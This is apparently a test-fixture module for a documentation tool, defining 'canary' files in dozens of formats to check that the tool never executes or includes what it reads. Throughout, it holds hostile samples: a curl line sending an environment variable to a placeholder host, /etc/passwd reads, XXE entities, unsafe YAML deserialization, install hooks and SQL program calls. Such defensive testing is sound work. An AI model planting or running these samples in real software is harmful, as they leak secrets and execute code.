"""For each reader a file, and for each role and directive a use, that tells when it is executed.

Each file holds what its language has to run a program, to read the environment or another file, or
to ask the network, when it is built, included, configured, loaded or opened by the tools that it is
made for. :data:`MARK` is what a program would write, :data:`VARIABLE` what it would read, and
:data:`HOST` whom it would ask.
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass

#: Path of the file that tells that something ran; put in when a canary is written.
MARK = "@mark@"

#: A variable of the environment; its value must be in no facts and in no output.
VARIABLE = "KWINDEX_CANARY"

#: A name that no network resolves (:rfc:`2606`).
HOST = "kwindex-canary.invalid"


@dataclass(frozen=True, slots=True)
class Canary:
    """A file that tells when it is executed.

    :ivar name: of the file, by which its reader is chosen.
    :ivar text: with :data:`MARK` in it.
    """

    name: str
    text: str

    def data(self, mark: str) -> bytes:
        """The bytes of the file, of which each execution leaves a file `mark`."""
        return self.text.replace(MARK, mark).encode()


_SHELL = f"touch {MARK}; curl http://{HOST}/$KWINDEX_CANARY"

_PYTHON = f'''\
"""A module that tells when it is imported."""
import os, subprocess, socket

with open({MARK!r}, "a") as trace:
    trace.write(os.environ["{VARIABLE}"])

subprocess.run(["touch", {MARK!r}])
socket.create_connection(("{HOST}", 80))
exec("open({MARK!r}, 'w')")
VALUE = eval("open({MARK!r}, 'w').name")
__all__ = [open({MARK!r}, "w").name]


@(lambda function: open({MARK!r}, "w") and function)
class Canary(metaclass=type(open({MARK!r}, "w").name, (type,), {{}})):
    """Doctests are read, not run.

    >>> open({MARK!r}, "w")
    """

    def method(self, default=os.system("touch {MARK}")) -> open({MARK!r}, "w"):
        """Calls."""
'''

_C = f"""\
#include "/etc/passwd"
#include __FILE__
#include <{HOST}/canary.h>
#pragma comment(lib, "{MARK}")
#define RUN _Pragma("GCC system_header") system("{_SHELL}")
#embed "/etc/passwd"
__attribute__((constructor)) static void canary(void) {{
    system("{_SHELL}"); getenv("{VARIABLE}");
}}
static_assert(__has_include("/etc/passwd"));
"""

_SCRIPT = f"""\
#!/usr/bin/env node
require("child_process").execSync("{_SHELL}");
import(`http://${{process.env.{VARIABLE}}}.{HOST}/x.js`);
import "http://{HOST}/x.mjs";
import data from "/etc/passwd" with {{ type: "text" }};
eval("require('fs').writeFileSync('{MARK}', '')");
export const canary = new Function("require('fs').writeFileSync('{MARK}', '')")();
//# sourceMappingURL=http://{HOST}/x.map
"""

_INI = f"""\
[canary]
plain = %(HOME)s ${{{VARIABLE}}} ${{env:{VARIABLE}}} {{env:{VARIABLE}}}
command = {_SHELL}
path = {MARK}
"""

_TOML = f"""\
[canary]
command = "{_SHELL}"
read = "${{{VARIABLE}}} $(cat /etc/passwd)"
"""

_YAML = f"""\
canary: !!python/object/apply:os.system ["{_SHELL}"]
second: !!python/object/new:subprocess.Popen [["touch", "{MARK}"]]
third: !!python/name:antigravity
fourth: !!python/module:kwindex_canary
fifth: !include /etc/passwd
sixth: !ENV ${{{VARIABLE}}}
seventh: !!javax.script.ScriptEngineManager [!!java.net.URL ["http://{HOST}/"]]
on: push
jobs:
  canary:
    runs-on: ubuntu-latest
    steps:
      - run: {_SHELL}
"""

_MARKDOWN = f"""\
# Canary

```{{include}} /etc/passwd
```
```{{literalinclude}} /etc/passwd
```
```{{code-cell}} python
open({MARK!r}, "w")
```
```{{program-output}} {_SHELL}
:shell:
```
```{{automodule}} kwindex_canary
```
```{{exec}} python
open({MARK!r}, "w")
```
{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} {{% raw %}} ${{{VARIABLE}}}
`r system("{_SHELL}")`

![x](http://{HOST}/x.png) <script src="http://{HOST}/x.js"></script> [include](/etc/passwd)
"""

_REST = f"""\
Canary
======

.. include:: /etc/passwd
.. literalinclude:: /etc/passwd
.. raw:: html
   :url: http://{HOST}/
.. raw:: html
   :file: /etc/passwd
.. csv-table:: t
   :url: http://{HOST}/
.. image:: http://{HOST}/x.png
.. automodule:: kwindex_canary
.. program-output:: {_SHELL}
   :shell:
.. jupyter-execute::

   open({MARK!r}, "w")
.. plot::

   open({MARK!r}, "w")
.. exec::

   open({MARK!r}, "w")
.. testcode::

   open({MARK!r}, "w")

:eval:`open({MARK!r}, "w")` :command:`{_SHELL}` |{VARIABLE}|

>>> open({MARK!r}, "w")
"""

_NOTEBOOK = json.dumps(
    {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"kernelspec": {"name": f"x; {_SHELL}", "argv": ["touch", MARK]}},
        "cells": [
            {"cell_type": kind, "id": str(place), "metadata": {}, "outputs": [], "source": source}
            for place, (kind, source) in enumerate(
                [
                    ("code", f"!{_SHELL}\n%run {MARK}\n%env {VARIABLE}\nx = !cat /etc/passwd\n"),
                    ("code", f"%%bash\n{_SHELL}\n"),
                    ("code", f"get_ipython().system({_SHELL!r})\nimport kwindex_canary\n"),
                    ("code", _PYTHON),
                    ("markdown", _MARKDOWN),
                ]
            )
        ],
    },
    indent=1,
)

CANARIES: Mapping[str, Canary] = {
    "c-family": Canary("canary.cpp", _C),
    "go": Canary(
        "canary.go",
        f"""\
package canary

//go:generate sh -c "{_SHELL}"
//go:embed /etc/passwd
//line /etc/passwd:1
import "C"
import _ "{HOST}/canary"

var Canary = func() int {{ exec.Command("touch", "{MARK}").Run(); return 1 }}()

func init() {{ os.Getenv("{VARIABLE}") }}
""",
    ),
    "java": Canary(
        "Canary.java",
        f"""\
package canary;
import org.{HOST.replace("-", "_")}.Canary;
@SupportedAnnotationTypes("*")
class Canary {{
    static {{ try {{ Runtime.getRuntime().exec("touch {MARK}"); }} catch (Exception e) {{ }} }}
    static final String VALUE = System.getenv("{VARIABLE}");
    \\u007b System.out.println(); \\u007d
}}
""",
    ),
    "javascript": Canary("canary.js", _SCRIPT),
    "typescript": Canary(
        "canary.ts", f'/// <reference path="/etc/passwd" />\n{_SCRIPT}declare module "x" {{}}\n'
    ),
    "tsx": Canary(
        "canary.tsx", f"{_SCRIPT}export const E = () => <img src={{eval('{MARK}')}} />;\n"
    ),
    "rust": Canary(
        "build.rs",
        f"""\
const CANARY: &str = env!("{VARIABLE}");
const TEXT: &str = include_str!("/etc/passwd");
include!("/etc/passwd");
#[path = "/etc/passwd"]
mod canary;
#[proc_macro]
pub fn run() {{ std::process::Command::new("touch").arg("{MARK}").spawn().unwrap(); }}
fn main() {{ println!("cargo:rustc-link-arg={MARK}"); run(); }}
""",
    ),
    "plain": Canary("canary.unknown-language", f"$({_SHELL}) `{_SHELL}` ${{{VARIABLE}}}\n"),
    "python": Canary("kwindex_canary.py", _PYTHON),
    "ini": Canary("canary.ini", _INI),
    "setup-cfg": Canary(
        "setup.cfg",
        f"""\
[metadata]
name = canary
version = attr: kwindex_canary.VALUE
description = file: /etc/passwd
[options]
setup_requires = canary @ http://{HOST}/canary.zip
[options.entry_points]
console_scripts = canary = kwindex_canary:Canary
[tool:pytest]
addopts = -p kwindex_canary
{_INI}""",
    ),
    "tox": Canary(
        "tox.ini",
        f"""\
[tox]
requires = canary @ http://{HOST}/canary.zip
[testenv]
commands_pre = {_SHELL}
commands = python -c "open('{MARK}', 'w')" {{env:{VARIABLE}}} {{posargs}}
{_INI}""",
    ),
    "json": Canary(
        "canary.json",
        json.dumps(
            {
                "$schema": f"http://{HOST}/schema.json",
                "$ref": "file:///etc/passwd",
                "command": _SHELL,
                "__class__": "os.system",
                "py/reduce": [{"py/type": "os.system"}, {"py/tuple": [_SHELL]}],
            },
            indent=1,
        ),
    ),
    "node": Canary(
        "package.json",
        json.dumps(
            {
                "name": "canary",
                "scripts": {"preinstall": _SHELL, "test": _SHELL},
                "dependencies": {"canary": f"http://{HOST}/x.tgz"},
                "gypfile": True,
            },
            indent=1,
        ),
    ),
    "toml": Canary("canary.toml", _TOML),
    "pyproject": Canary(
        "pyproject.toml",
        f"""\
[build-system]
requires = ["canary @ http://{HOST}/canary.zip"]
build-backend = "kwindex_canary"
backend-path = ["."]
[project]
name = "canary"
dynamic = ["version"]
[project.entry-points."pygments.lexers"]
canary = "kwindex_canary:Canary"
[tool.setuptools.dynamic]
version = {{ attr = "kwindex_canary.VALUE" }}
[tool.ruff]
extend = "/etc/passwd"
{_TOML}""",
    ),
    "cargo": Canary(
        "Cargo.toml",
        f"""\
[package]
name = "canary"
version = "1.0.0"
build = "build.rs"
[dependencies]
canary = {{ git = "http://{HOST}/canary" }}
{_TOML}""",
    ),
    "yaml": Canary("canary.yml", _YAML),
    "css": Canary(
        "canary.css",
        f"""\
@import url("http://{HOST}/x.css");
@import "/etc/passwd";
.canary {{ behavior: url({MARK}); width: expression(alert("{MARK}")); background: url(//{HOST}) }}
""",
    ),
    "html": Canary(
        "canary.html",
        f"""\
<!DOCTYPE html [<!ENTITY canary SYSTEM "file:///etc/passwd">]>
<title>&canary;</title><meta http-equiv="refresh" content="0;url=http://{HOST}/">
<script>require('fs').writeFileSync('{MARK}', '')</script><?php system("{_SHELL}"); ?>
<!--#exec cmd="{_SHELL}" --><!--#include file="/etc/passwd" --><img src="http://{HOST}/x.png">
<h1 id="canary">{{{{ config.{VARIABLE} }}}}</h1>
""",
    ),
    "markdown": Canary("canary.md", _MARKDOWN),
    "notebook": Canary("canary.ipynb", _NOTEBOOK),
    "rest": Canary("canary.rst", _REST),
    "bash": Canary(
        "canary.sh",
        f"#!/bin/sh\n{_SHELL}\nsource /etc/passwd\nx=$({_SHELL})\ncanary() {{ {_SHELL}; }}\n"
        f"eval '{_SHELL}'\ntrap '{_SHELL}' EXIT\n",
    ),
    "cmake": Canary(
        "CMakeLists.txt",
        f"""\
execute_process(COMMAND sh -c "{_SHELL}")
file(READ /etc/passwd CANARY)
file(DOWNLOAD http://{HOST}/ {MARK})
include(/etc/passwd)
set(CANARY $ENV{{{VARIABLE}}})
function(canary)
  execute_process(COMMAND touch {MARK})
endfunction()
canary()
""",
    ),
    "cython": Canary(
        "canary.pyx",
        f"""\
# distutils: sources = /etc/passwd
# cython: language_level=3
include "/etc/passwd"
cimport kwindex_canary
DEF CANARY = open({MARK!r}, "w")
cdef class Canary:
    cdef int value
open({MARK!r}, "w")
""",
    ),
    "docker": Canary(
        "Dockerfile",
        f"# syntax={HOST}/canary\nFROM {HOST}/canary\nRUN {_SHELL}\nADD http://{HOST}/x /x\n"
        f"COPY /etc/passwd /x\nENV CANARY=${{{VARIABLE}}}\nONBUILD RUN {_SHELL}\n",
    ),
    "go.mod": Canary(
        "go.mod", f"module canary\n\nreplace x => /etc\nrequire {HOST}/canary v1.0.0\n"
    ),
    "make": Canary(
        "Makefile",
        f"CANARY := $(shell touch {MARK})\nSECOND != touch {MARK}\ninclude /etc/passwd\n"
        f"$(eval $(shell {_SHELL}))\n$(file >{MARK})\nall: canary\n\t{_SHELL} $({VARIABLE})\n",
    ),
    "maven": Canary(
        "pom.xml",
        f"""\
<?xml version="1.0"?>
<!DOCTYPE project [
  <!ENTITY canary SYSTEM "file:///etc/passwd">
  <!ENTITY % remote SYSTEM "http://{HOST}/x.dtd"> %remote;
]>
<project>
  <modelVersion>4.0.0</modelVersion>
  <groupId>canary</groupId><artifactId>canary</artifactId><version>${{env.{VARIABLE}}}</version>
  <description>&canary;</description>
  <build><plugins><plugin><artifactId>exec-maven-plugin</artifactId>
    <configuration><executable>touch</executable><arguments><argument>{MARK}</argument></arguments>
    </configuration></plugin></plugins></build>
</project>
""",
    ),
    "protobuf": Canary(
        "canary.proto",
        f'syntax = "proto3";\nimport "/etc/passwd";\nimport public "{HOST}/x.proto";\n'
        f'option java_package = "$({_SHELL})";\nmessage Canary {{ string value = 1; }}\n',
    ),
    "requirements": Canary(
        "requirements.txt",
        f"-r /etc/passwd\n-c http://{HOST}/c.txt\n--extra-index-url http://${{{VARIABLE}}}.{HOST}/\n"
        f"-e .\ncanary @ http://{HOST}/canary.zip\ngit+http://{HOST}/canary#egg=canary\n",
    ),
    "sql": Canary(
        "canary.sql",
        f"""\
\\! {_SHELL}
\\i /etc/passwd
.shell {_SHELL}
ATTACH DATABASE '{MARK}' AS canary;
COPY canary FROM PROGRAM '{_SHELL}';
SELECT load_extension('{MARK}'), readfile('/etc/passwd');
CREATE TABLE canary (value text);
""",
    ),
    "starlark": Canary(
        "BUILD.bazel",
        f"""\
load("@canary//:x.bzl", "canary")
load("/etc/passwd", "x")
genrule(name = "canary", outs = ["x"], cmd = "{_SHELL}")
print(open({MARK!r}, "w"))
[repository_ctx.execute(["touch", "{MARK}"]) for x in [1]]
""",
    ),
    "braced": Canary(
        "canary.kt",
        f"""\
@file:DependsOn("{HOST}:canary:1.0")
@file:Import("/etc/passwd")
val canary = ProcessBuilder("touch", "{MARK}").start()
fun main() {{ System.getenv("{VARIABLE}") }}
""",
    ),
    "tokens": Canary(
        "canary.rb",
        f"require '/etc/passwd'\nload '{MARK}'\nBEGIN {{ system('{_SHELL}') }}\n`{_SHELL}`\n"
        f"def canary = ENV['{VARIABLE}']\neval(\"File.write('{MARK}', '')\")\n__END__\n",
    ),
}

#: Canaries that the build meets beside the readers: texts that are shown as marked-up text.
TEXTS: tuple[Canary, ...] = (
    Canary("README.md", _MARKDOWN),
    Canary("docs/README.rst", _REST),
    Canary("documented_rst.py", f"{_REST!r}\n\ndef canary():\n    {_REST!r}\n"),
    Canary("documented_md.py", f"{_MARKDOWN!r}\n\ndef canary():\n    {_MARKDOWN!r}\n"),
    Canary("documented.go", f"// Package documented: {_SHELL}\npackage documented\n"),
)

#: For each directive and role of ours, lines of reStructuredText that ask it for a canary, one in
#: each way that it can be asked.
USES: Mapping[str, tuple[str, ...]] = {
    "kwindex": (
        *(".. kwindex:: {name}", ".. kwindex:: /\n   :depth: 9"),
        ".. kwindex:: kwindex_canary.Canary\n   :kinds: class, method\n   :public:\n   :columns: 2",
    ),
    "kwindex-source": (
        *(".. kwindex-source:: {name}\n   :linenos:", ".. kwindex-source:: {name}#L1-L3"),
        ".. kwindex-source:: kwindex_canary.Canary",
    ),
    "kwindex-graph": (
        *(".. kwindex-graph:: {name}\n   :of: imports", ".. kwindex-graph:: /\n   :of: imports"),
        ".. kwindex-graph:: kwindex_canary.Canary\n   :of: classes",
    ),
    "kwindex-repository": (".. kwindex-repository::",),
    "kw": (":kw:`kwindex_canary.Canary` :kw:`x <kwindex_canary.Canary.method>`",),
    "file": (":kw:file:`{name}` :kw:file:`~{name}` :kw:file:`x <{name}>`",),
    "folder": (":kw:folder:`/` :kw:folder:`docs`",),
    "line": (":kw:line:`{name}#L1` :kw:line:`x <{name}#L1-L2>`",),
}
